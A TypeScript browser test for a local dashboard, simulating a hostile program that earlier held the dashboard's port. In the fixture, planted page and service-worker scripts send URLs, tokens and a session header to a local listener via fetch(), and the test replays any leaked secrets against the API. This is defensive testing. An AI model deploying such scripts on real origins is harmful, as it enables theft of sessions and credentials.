import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { NEEDS_BROWSER, startBrowser } from '../../service/browser.ts';
import { dashboardAt, standInEnvironment, type TestDashboard } from './test-dashboard.ts';

const PLANTED = 'planted-'.repeat(6);

/** Leaves in the browser what a page can leave, for the pages that another server may have at this origin. */
const PLANTS = `
  localStorage.setItem('session', ${JSON.stringify(PLANTED)});
  const opening = indexedDB.open('dashboard');
  opening.onupgradeneeded = () => opening.result.createObjectStore('keys');
  opening.onsuccess = async () => {
    const pair = await crypto.subtle.generateKey({ name: 'ECDSA', namedCurve: 'P-256' }, true, ['sign']);
    opening.result.transaction('keys', 'readwrite').objectStore('keys').put(pair, 'pair');
    await navigator.serviceWorker.register('/worker.js');
    await navigator.serviceWorker.ready;
    document.title = 'planted';
  };`;

/** Another user's program, which has a port at times and another one always, to which its pages tell what they see. */
async function startTenant() {
  const heard: string[] = [];
  const ear = createServer((request, response) => {
    heard.push(decodeURIComponent(request.url ?? ''));
    response.end();
  }).listen(0, '127.0.0.1');
  await once(ear, 'listening');
  const tell = `seen => fetch('http://127.0.0.1:${(ear.address() as AddressInfo).port}/' + encodeURIComponent(seen), { mode: 'no-cors' })`;
  const page = `<!doctype html><script>
    (${tell})(location.href + ' ' + localStorage.getItem('session'));
    ${PLANTS}
  </script>`;
  const worker = `
    addEventListener('install', () => skipWaiting());
    addEventListener('activate', event => event.waitUntil(clients.claim()));
    addEventListener('fetch', event => {
      const { url, mode, headers } = event.request;
      (${tell})(url + ' ' + headers.get('x-petstore-dashboard'));
      const page = ${JSON.stringify(page)};
      if (mode === 'navigate') event.respondWith(new Response(page, { headers: { 'Content-Type': 'text/html' } }));
    });`;
  return {
    /** All that it has seen so far: URLs with their fragments, hosts, secrets. */
    heard,
    close: () => void ear.close(),
    /** Takes the port, or a free one, for as long as the visits last. */
    async during(port: number, visits: (port: number) => Promise<void>): Promise<number> {
      const server = createServer(({ url, headers }, response) => {
        heard.push(`${headers.host}${url} ${headers['x-petstore-dashboard']}`);
        const [type, body] = url === '/worker.js' ? ['text/javascript', worker] : ['text/html', page];
        response.writeHead(200, { 'Content-Type': type }).end(body);
      }).listen(port, '127.0.0.1');
      await once(server, 'listening');
      const { port: taken } = server.address() as AddressInfo;
      await visits(taken);
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
      return taken;
    },
  };
}

describe('whoever had the port before', NEEDS_BROWSER, () => {
  let browser: Browser;
  let context: BrowserContext;
  beforeAll(async () => {
    browser = await startBrowser();
    context = await browser.newContext();
  });
  afterAll(() => browser?.close());

  /** What an attacker gets for all that it knows, at each host: the statuses. */
  async function attempts(dashboard: TestDashboard, known: readonly string[], hosts: readonly string[]) {
    const secrets = new Set([PLANTED, '', ...known.flatMap(text => text.split(/[\s#=]+/))]);
    const statuses = new Set<number>();
    for (const Host of hosts) {
      for (const secret of secrets) {
        const headers = { Host, Origin: `http://${Host}`, 'X-Petstore-Dashboard': secret };
        for (const path of ['/api/session', '/api/staging/commands/keys.list']) {
          statuses.add((await dashboard.post(path, { input: {} }, headers)).status);
        }
      }
    }
    return statuses;
  }

  test('gets no token and no session, whatever it left in the browser, before and after a restart', async () => {
    const staging = standInEnvironment('staging');
    const tenant = await startTenant();
    const plant = async (origin: string) => {
      const page = await context.newPage();
      await page.goto(origin);
      await page.waitForFunction('document.title === "planted"');
      await page.close();
    };
    const port = await tenant.during(0, taken => plant(`http://127.0.0.1:${taken}`));
    const fallback = `127.0.0.1:${port}`;
    const signIn = async () => {
      const dashboard = await dashboardAt(port, [staging]);
      const tab = await context.newPage();
      await tab.goto(dashboard.url);
      await tab.getByRole('heading', { name: 'Projects' }).waitFor();
      expect(
        await tab.evaluate('navigator.serviceWorker.getRegistrations().then(({ length }) => length)'),
      ).toBe(0);
      expect(await tab.evaluate('indexedDB.databases().then(({ length }) => length)')).toBe(0);
      const secret = String(await tab.evaluate('localStorage.getItem("session")'));
      const { host, hash } = new URL(dashboard.url);
      // The attacker may know the hosts, as the next tenant does, but not these two.
      const hidden = [secret, hash.slice('#token='.length)];
      const isHidden = () => hidden.every(text => !tenant.heard.some(each => each.includes(text)));
      return { dashboard, tab, host, secret, isHidden };
    };

    const first = await signIn();
    expect(first.isHidden()).toBe(true);
    expect(await attempts(first.dashboard, tenant.heard, [fallback, first.host])).toEqual(new Set([401]));
    await first.dashboard.close();

    // A tab that was left open tells the next tenant its host and its secret, and is its own once it is loaded again.
    await tenant.during(port, async () => {
      await expect.poll(() => tenant.heard.some(each => each.includes(first.secret))).toBe(true);
      await plant(`http://${first.host}`);
    });

    const second = await signIn();
    await first.tab.goto(`http://${first.host}/staging/keys`);
    await first.tab.goto(`http://${fallback}/staging/orders`);
    for (const seen of [`${first.host}/staging/keys`, `${fallback}/staging/orders`]) {
      await expect.poll(() => tenant.heard.some(each => each.includes(seen))).toBe(true);
    }
    expect(second.isHidden()).toBe(true);
    const known = [...tenant.heard, first.dashboard.url];
    expect(await attempts(second.dashboard, known, [fallback, second.host])).toEqual(new Set([401]));
    expect(await attempts(second.dashboard, known, [first.host])).toEqual(new Set([421]));
    expect(staging.sent.filter(({ command }) => command === 'keys.create')).toEqual([]);
    await second.dashboard.close();
    tenant.close();
  });
});
